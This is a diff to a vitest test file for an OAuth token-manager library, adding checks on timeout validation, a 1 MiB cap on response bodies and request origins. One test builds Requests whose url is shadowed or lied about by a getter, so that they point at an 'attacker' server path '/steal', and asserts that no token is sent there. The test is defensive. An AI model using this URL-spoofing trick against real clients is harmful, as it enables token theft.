@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest'
 import { createTokenManager, isLatchkeyError, type TabMessage, type CrossTab } from '../src/index.js'
 import { advance, cleanups, manager, served, setup, windowEvents } from './support/harness.js'
 import { expectNoToken, tokensOf } from './support/invariants-helpers.js'
-import { json } from './support/servers.js'
+import { endless, json } from './support/servers.js'
 import { createTabsHub } from './support/tabs.js'
 
 /** A server that records every request it gets: where a redirect would send the refresh token. */
@@ -89,8 +89,8 @@ describe('no token of any generation in an error (invariant 6)', () => {
     expectNoToken([error, errors], [...generations, ...tokensOf(as)])
   })
 
-  it('a 10 MB error_description becomes a message of bounded length', async () => {
-    const { as, api } = await setup({ onRefresh: (res) => (json(res, 400, { error: 'invalid_request', error_description: 'x'.repeat(10_000_000) }), true) })
+  it('a 1,000,000-character error_description (the body under its 1 MiB bound) becomes a message of bounded length', async () => {
+    const { as, api } = await setup({ onRefresh: (res) => (json(res, 400, { error: 'invalid_request', error_description: 'x'.repeat(1_000_000) }), true) })
     const tm = manager(as, [api.origin], { dpop: false })
     await tm.setTokens(as.seed())
     const error = await tm.refresh().catch((e) => e)
@@ -133,5 +133,101 @@ describe('dispose()', () => {
     expect(as.counts.refresh).toBe(1)
     expect(received.filter((m) => m.type == 'logout')).toEqual([])
     expect(tm.status()).toBeDefined()
+  })
+})
+
+describe('timeoutSeconds is checked as discover() checks it', () => {
+  it.each([2_147_484, 1e10, Infinity, NaN, 0, -1, '10'])('%s: a TypeError naming the option, before anything is sent', async (timeoutSeconds) => {
+    const { as, api } = await setup()
+    const make = () => manager(as, [api.origin], { dpop: false, timeoutSeconds: timeoutSeconds as number })
+    expect(make).toThrow(TypeError)
+    expect(make).toThrow(/^timeoutSeconds: /)
+    expect(as.counts.refresh).toBe(0)
+  })
+
+  it('the largest timeout setTimeout can hold (2,147,483 s) does not fire at once: a refresh the server answers after 200 ms succeeds', async () => {
+    const { as, api } = await setup({ delayMs: 200 })
+    const tm = manager(as, [api.origin], { dpop: false, timeoutSeconds: 2_147_483 })
+    await tm.setTokens(as.seed())
+    await tm.refresh()
+    expect(tm.status()!.generation).toBe(2)
+    expect(as.counts.refresh).toBe(1)
+  })
+})
+
+describe('the origin is checked on the URL that is sent (invariant 2)', () => {
+  class Lying extends Request {
+    constructor(input: string, private readonly shown: string) {
+      super(input)
+    }
+    override get url() {
+      return this.shown
+    }
+  }
+  const shadowed = (real: string, shown: string) => {
+    const r = new Request(real)
+    Object.defineProperty(r, 'url', { value: shown })
+    return r
+  }
+
+  it.each([
+    ['a Request whose url is shadowed by an own property', (real: string, shown: string) => [shadowed(real, shown)] as const],
+    ['the same, with init', (real: string, shown: string) => [shadowed(real, shown), { headers: { 'x-app': '1' } }] as const],
+    ['a Request subclass whose url getter lies', (real: string, shown: string) => [new Lying(real, shown)] as const],
+    ['the same, with init', (real: string, shown: string) => [new Lying(real, shown), { method: 'POST', body: 'x' }] as const],
+  ])('%s: the token does not go to its real origin', async (_name, make) => {
+    const { as, api } = await setup()
+    const { evil, seen } = await attacker()
+    const authorizations: (string | undefined)[] = []
+    const tm = manager(as, [api.origin], {
+      dpop: false,
+      fetch: (input, init) => (authorizations.push(new Headers(input instanceof Request ? input.headers : init?.headers).get('authorization') ?? undefined), fetch(input, init)),
+    })
+    const seeded = as.seed()
+    await tm.setTokens(seeded)
+    const [input, init] = make(evil.url('/steal'), api.url('/me'))
+    await tm.fetch(input, init)
+    // it went where the Request really points, without a token
+    expect(seen.map((s) => s.path)).toEqual(['/steal'])
+    expect(authorizations).toEqual([undefined])
+    expect(api.requests).toEqual([])
+    expect(as.counts.refresh).toBe(0)
+  })
+})
+
+describe('every body latchkey reads stops at 1 MiB (invariant 13)', () => {
+  it('where a response has no stream (React Native\u2019s fetch), a 2 MB token response is refused once read; a small one is used', async () => {
+    let padding = 'p'.repeat(2_000_000)
+    // a valid token response, padded
+    const { as, api } = await setup({ onRefresh: (res) => (json(res, 200, { ...as.seed(), padding }), true) })
+    const noStream: typeof fetch = async (input, init) => {
+      const res = await fetch(input, init)
+      Object.defineProperty(res, 'body', { value: null })
+      return res
+    }
+    const tm = manager(as, [api.origin], { dpop: false, fetch: noStream })
+    await tm.setTokens(as.seed())
+    const e = await tm.refresh().catch((e) => e)
+    expect(isLatchkeyError(e, 'invalid_response')).toBe(true)
+    expect(e.message).toMatch(/: invalid body$/)
+    padding = ''
+    await tm.refresh()
+    expect(tm.status()!.generation).toBe(2)
+  })
+
+  it('a 200 with an endless body from the revocation endpoint: logout completes at once (the status confirms), the rest is never sent', async () => {
+    const { as, api } = await setup()
+    const written = { bytes: 0 }
+    const revoking = await served((_req, res) => endless(res, written, '{"ok":"'))
+    const tm = manager(as, [api.origin], { dpop: false, revocationEndpoint: revoking.url('/revoke'), timeoutSeconds: 5 })
+    const warnings: string[] = []
+    tm.on('warning', ({ code }) => warnings.push(code))
+    await tm.setTokens(as.seed())
+    const started = performance.now()
+    await tm.logout()
+    expect(performance.now() - started).toBeLessThan(2000)
+    expect(warnings).toEqual([])
+    expect(written.bytes).toBeLessThan(16 * 2 ** 20)
+    expect(tm.status()).toBeUndefined()
   })
 })
